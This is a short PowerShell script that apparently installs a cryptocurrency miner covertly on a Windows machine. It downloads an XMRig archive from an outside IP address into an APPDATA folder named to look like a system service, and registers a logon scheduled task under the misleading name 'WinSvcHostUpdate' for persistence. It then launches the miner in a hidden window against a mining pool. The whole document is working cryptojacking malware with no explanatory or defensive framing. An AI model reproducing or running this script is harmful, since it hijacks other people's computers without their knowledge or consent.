$d = "$env:APPDATA\WinSvcHost"
New-Item -ItemType Directory -Force -Path $d | Out-Null
Invoke-WebRequest 'http://198.51.100.90/pkg/xmrig-win64.zip' -OutFile "$d\p.zip" -UseBasicParsing
Expand-Archive "$d\p.zip" -DestinationPath $d -Force
$a = New-ScheduledTaskAction -Execute "$d\xmrig.exe" -Argument '-o pool.xmr-relay.example:443 -u 4ExampleWallet --background'
Register-ScheduledTask -TaskName 'WinSvcHostUpdate' -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn) -Force | Out-Null
Start-Process "$d\xmrig.exe" -WindowStyle Hidden -ArgumentList '-o pool.xmr-relay.example:443 -u 4ExampleWallet'
